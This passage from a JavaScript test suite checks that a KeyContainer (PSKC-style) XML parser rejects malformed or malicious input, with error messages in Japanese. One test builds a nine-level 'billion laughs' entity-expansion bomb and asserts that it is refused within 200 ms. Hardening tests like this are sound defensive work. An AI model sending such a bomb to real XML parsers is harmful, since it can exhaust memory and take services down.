    const lol = ['<!ENTITY lol "lol">'];
    for (let i = 1; i <= 9; i++) lol.push(`<!ENTITY lol${i} "${`&lol${i === 1 ? '' : i - 1};`.repeat(10)}">`);
    const bomb = `<?xml version="1.0"?>\n<!DOCTYPE KeyContainer [\n${lol.join('\n')}\n]>\n${FIGURE3.replace('<Issuer>Issuer</Issuer>', '<Issuer>&lol9;</Issuer>').replace(/^<\?xml[^>]*>/, '')}`;
    const started = performance.now();
    const e = refusal(bomb);
    expect(performance.now() - started).toBeLessThan(200);
    expect(e.message).toContain('文書型宣言');
  });

  it('entity references without a DTD are never expanded', () => {
    const e = refusal(edit(FIGURE3, '<SerialNo>000987654321</SerialNo>', '<SerialNo>&#65;B1234567890</SerialNo>'));
    expect(e.message).toContain('シリアル番号「&#65;B1234567890」は英数字12桁ではありません');
  });

  it('a secret that is not base64, or too short, is refused', () => {
    expect(refusal(edit(FIGURE3, 'MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=', 'MTIzNDU2Nzg5MDEyMzQ1Njc4OTA')).message).toContain('Base64ではありません');
    expect(refusal(edit(FIGURE3, 'MTIzNDU2Nzg5MDEyMzQ1Njc4OTA=', 'MTIzNA==')).message).toContain('シークレットが短すぎます');
  });

  it('a KeyPackage without a serial or with two Keys is refused', () => {
    const noSerial = edit(FIGURE3, '<SerialNo>000987654321</SerialNo>', '');
    expect(refusal(noSerial).message).toBe('1件目のKeyPackage（Id=12345678）: シリアル番号（DeviceInfo/SerialNo）がありません');
    const keyAt = FIGURE3.indexOf('<Key ');
    const keyEnd = FIGURE3.indexOf('</Key>') + '</Key>'.length;
    const twoKeys = FIGURE3.slice(0, keyEnd) + FIGURE3.slice(keyAt, keyEnd) + FIGURE3.slice(keyEnd);
    expect(refusal(twoKeys).message).toContain('Key要素がちょうど1つ必要です（2個あります）');
  });
});
